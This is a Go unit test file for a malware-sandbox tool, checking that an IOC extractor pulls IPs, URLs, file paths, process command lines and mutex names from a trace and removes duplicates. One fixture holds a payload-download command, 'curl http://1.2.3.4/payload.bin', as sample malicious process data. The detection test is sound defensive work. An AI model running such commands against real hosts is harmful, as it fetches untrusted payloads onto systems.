package sandbox

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/threatcore/analysis-core/internal/model"
)

func TestExtractIOCs_NetworkAndFile(t *testing.T) {
	trace := model.SandboxTrace{
		NetworkEvents: []model.NetworkEvent{{DstIP: "8.8.8.8"}},
		FileEvents:    []model.FileEvent{{Path: "/tmp/evil.exe", Operation: model.FileOpCreate}},
	}
	iocs := ExtractIOCs(trace)
	require.Len(t, iocs, 2)
}

func TestExtractIOCs_ProcessCmdLineURLAndIP(t *testing.T) {
	trace := model.SandboxTrace{
		ProcessEvents: []model.ProcessEvent{
			{CmdLine: "curl http://1.2.3.4/payload.bin"},
		},
	}
	iocs := ExtractIOCs(trace)

	var types []string
	for _, i := range iocs {
		types = append(types, i.Type)
	}
	assert.Contains(t, types, "ip")
	assert.Contains(t, types, "url")
	assert.Contains(t, types, "process")
}

func TestExtractIOCs_SyscallParamsViaGJSON(t *testing.T) {
	trace := model.SandboxTrace{
		Syscalls: []model.SyscallEvent{
			{Name: "CreateMutexA", Params: map[string]interface{}{"mutex_name": "Global\\evil_mutex"}},
		},
	}
	iocs := ExtractIOCs(trace)
	require.Len(t, iocs, 1)
	assert.Equal(t, "mutex", iocs[0].Type)
	assert.Equal(t, "Global\\evil_mutex", iocs[0].Value)
}

func TestExtractIOCs_Dedupes(t *testing.T) {
	trace := model.SandboxTrace{
		NetworkEvents: []model.NetworkEvent{{DstIP: "8.8.8.8"}, {DstIP: "8.8.8.8"}},
	}
	iocs := ExtractIOCs(trace)
	assert.Len(t, iocs, 1)
}
